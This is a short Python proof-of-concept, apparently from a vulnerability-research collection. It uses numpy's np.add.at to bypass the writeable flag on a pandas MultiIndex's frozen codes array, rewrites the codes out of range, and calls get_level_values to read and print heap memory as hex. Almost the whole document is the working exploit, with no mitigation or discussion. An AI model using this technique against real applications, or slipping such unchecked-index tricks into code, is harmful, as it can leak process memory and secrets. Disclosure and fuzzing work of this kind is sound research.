# source: numpy 1.24 ufunc.at (np.add.at) ignores the writeable flag; pandas keeps MultiIndex codes as read-only ("frozen") arrays and trusts them (get_level_values -> take_nd, unchecked Cython take)
# family: read-only flag bypass through ufunc.at -> integer codes pandas keeps and indexes unchecked
# goal: out-of-bounds heap read: the frozen codes of a MultiIndex are rewritten to 5..18 for a 2-value level, get_level_values(0) returns heap words
import numpy as np
import pandas as pd

mi = pd.MultiIndex.from_arrays([[10, 20, 10, 20], [1, 2, 3, 4]])
c0 = mi.codes[0]
print("codes[0]:", c0, "writeable:", c0.flags.writeable, flush=True)
np.add.at(c0, [0, 1, 2, 3], [5, 9, 13, 17])
print("codes[0] now:", mi.codes[0], "levels[0] has", len(mi.levels[0]), "values", flush=True)
print([hex(int(v)) for v in mi.get_level_values(0)], flush=True)
